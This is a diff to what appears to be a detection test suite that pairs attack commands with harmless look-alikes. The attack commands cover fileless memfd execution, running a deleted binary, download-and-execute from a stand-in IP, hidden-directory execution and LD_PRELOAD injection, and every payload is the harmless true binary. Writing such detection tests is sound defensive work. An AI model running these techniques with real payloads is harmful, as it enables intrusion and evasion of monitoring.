@@ -9,40 +9,40 @@ PROOFS = [
     Proof("Program run from memory", attack="""python3 -c '
 import os
 memory = os.memfd_create("x")
-os.write(memory, open("/usr/bin/busybox", "rb").read())
-os.execv(f"/proc/self/fd/{memory}", ["busybox", "true"])'
+os.write(memory, open("/usr/bin/true", "rb").read())
+os.execv(f"/proc/self/fd/{memory}", ["true"])'
 """, look_alike="""python3 -c '
 import os
 memory = os.memfd_create("x", 0)
-os.write(memory, open("/usr/bin/busybox", "rb").read())
-os.execv("/usr/bin/busybox", ["busybox", "true"])'
+os.write(memory, open("/usr/bin/true", "rb").read())
+os.execv("/usr/bin/true", ["true"])'
 """),
 
     Proof("Deleted program run", attack="""
-cp /usr/bin/busybox /srv/deleted
+cp /usr/bin/true /srv/deleted
 exec 9</srv/deleted
 rm /srv/deleted
-exec /proc/self/fd/9 true
-""", look_alike="busybox sleep 0; cp /usr/bin/busybox /srv/data; exec 9</srv/data; rm /srv/data; wc -c <&9"),
+exec /proc/self/fd/9
+""", look_alike="true; cp /usr/bin/true /srv/data; exec 9</srv/data; rm /srv/data; wc -c <&9"),
 
     Proof("Downloaded, made executable and run", alone=True, attack="""
-curl -s -o /srv/download http://203.0.113.9/busybox
+curl -s -o /srv/download http://203.0.113.9/program
 chmod +x /srv/download
-/srv/download true
-""", look_alike="curl -s -o /srv/download http://203.0.113.9/busybox; chmod 644 /srv/download; wc -c /srv/download"),
+/srv/download
+""", look_alike="curl -s -o /srv/download http://203.0.113.9/program; chmod 644 /srv/download; wc -c /srv/download"),
 
-    Proof("Program run from a temporary directory", attack="cp /usr/bin/busybox /tmp/x; /tmp/x true",
-          look_alike="cp /usr/bin/busybox /tmp/x; cd /tmp; busybox true"),
+    Proof("Program run from a temporary directory", attack="cp /usr/bin/true /tmp/x; /tmp/x",
+          look_alike="cp /usr/bin/true /tmp/x; cd /tmp; true"),
 
-    Proof("Hidden program run", attack="mkdir -p /srv/.x; cp /usr/bin/busybox /srv/.x/tool; /srv/.x/tool true",
-          look_alike="mkdir -p /srv/x; cp /usr/bin/busybox /srv/x/tool; /srv/x/tool true"),
+    Proof("Hidden program run", attack="mkdir -p /srv/.x; cp /usr/bin/true /srv/.x/tool; /srv/.x/tool",
+          look_alike="mkdir -p /srv/x; cp /usr/bin/true /srv/x/tool; /srv/x/tool"),
 
-    Proof("New program run in a container", attack="cp /usr/bin/busybox /srv/tool; /srv/tool true",
-          look_alike="cp /usr/bin/busybox /srv/tool; busybox true"),
+    Proof("New program run in a container", attack="cp /usr/bin/true /srv/tool; /srv/tool",
+          look_alike="cp /usr/bin/true /srv/tool; true"),
 
     Proof("Library mapped from a temporary directory",
           attack="cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/x.so; python3 -c 'import ctypes; ctypes.CDLL(\"/tmp/x.so\")'",
-          look_alike="python3 -c 'import ctypes; ctypes.CDLL(\"libm.so.6\")'; cat /tmp/* >/dev/null 2>&1 || true"),
+          look_alike="python3 -c 'import ctypes; ctypes.CDLL(\"libm.so.6\")'; cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/y.so; cat /tmp/y.so >/dev/null"),
 
     Proof("Library forced on a program",
           attack="cp /lib/x86_64-linux-gnu/libm.so.6 /tmp/preload.so; LD_PRELOAD=/tmp/preload.so true",
